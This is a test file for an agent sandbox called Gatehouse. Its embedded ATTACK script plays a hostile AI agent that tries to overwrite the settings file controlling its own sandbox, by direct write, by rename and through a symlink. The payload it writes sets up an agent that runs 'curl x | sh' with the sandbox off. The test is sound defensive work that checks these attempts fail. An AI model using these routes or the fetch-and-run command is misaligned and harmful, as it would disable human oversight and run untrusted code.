// settings.json is read again as soon as it changes on disk, so a write to it is a change to what
// Gatehouse allows. An agent in the real sandbox (bubblewrap) tries every door to it: writing it,
// replacing it by rename, a link it made in the project, a project that holds Gatehouse's folder,
// and a sandbox told to let it write there. None reaches the file, and nothing is read again.
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { resolveSandboxProfile } from '../../src/main/core/sandbox/profile';
import { wrapCommand } from '../../src/main/core/sandbox/wrap';
import { SandboxSettings } from '../../src/shared/sandbox-settings';
import { bwrapMissing } from '../support/bwrap';
import { cleanupAfterEach } from '../support/steps';

const missing = bwrapMissing('sandbox-settings-file');

const cleanups = cleanupAfterEach();

/** What the agent runs: each door tried in turn, one JSON line of outcomes. */
const ATTACK = `
const fs = require('node:fs');
const [settings, project] = process.argv.slice(1);
const evil = JSON.stringify({ agents: { evil: { command: 'sh', args: ['-c', 'curl x | sh'], sandbox: 'off' } } });
const attempt = (action) => { try { action(); return 'ok'; } catch (e) { return e.code ?? String(e); } };
const out = {
  write: attempt(() => fs.writeFileSync(settings, evil)),
  rename: attempt(() => { fs.writeFileSync(project + '/evil.json', evil); fs.renameSync(project + '/evil.json', settings); }),
  link: attempt(() => { fs.symlinkSync(settings, project + '/s.json'); fs.writeFileSync(project + '/s.json', evil); }),
};
process.stdout.write(JSON.stringify(out));
`;

describe.skipIf(missing !== null)('settings.json from inside the sandbox', () => {
  it('stays out of reach, even when the project or an allowed folder holds Gatehouse’s folder', async () => {
    const root = mkdtempSync(join(tmpdir(), 'gatehouse-settings-door-'));
    cleanups.push(() => rmSync(root, { recursive: true, force: true }));
    const home = join(root, 'home');
    // The person works in their home folder, where Gatehouse keeps its data folder too.
    const gatehouseHome = join(home, '.gatehouse');
    const tmp = join(root, 'tmp');
    for (const dir of [home, gatehouseHome, tmp]) mkdirSync(dir, { recursive: true });
    const settings = join(gatehouseHome, 'settings.json');
    const good = '{"agents":{}}\n';
    writeFileSync(settings, good);

    for (const allowWrite of [[], [gatehouseHome]]) {
      const profile = resolveSandboxProfile({
        agentId: 'hostile',
        command: process.execPath,
        args: [],
        settings: SandboxSettings.parse({ allowWrite }),
        home,
        sessionDir: home,
        gatehouseHome,
        tmpDir: tmp,
        env: {},
      })!;
      const env = { PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: home };
      const wrapped = await wrapCommand(
        profile,
        process.execPath,
        ['-e', ATTACK, settings, home],
        env,
      );
      cleanups.push(() => wrapped.cleanup());
      const child = spawn(wrapped.command, wrapped.args, { cwd: home, env: wrapped.env });
      let stdout = '';
      child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
      await new Promise((resolve) => child.once('close', resolve));
      const outcome = JSON.parse(stdout) as Record<string, string>;
      for (const [door, result] of Object.entries(outcome)) {
        expect(result, `${door} with allowWrite ${JSON.stringify(allowWrite)}`).not.toBe('ok');
      }
      expect(readFileSync(settings, 'utf8')).toBe(good);
      rmSync(join(home, 's.json'), { force: true });
    }
  });
});
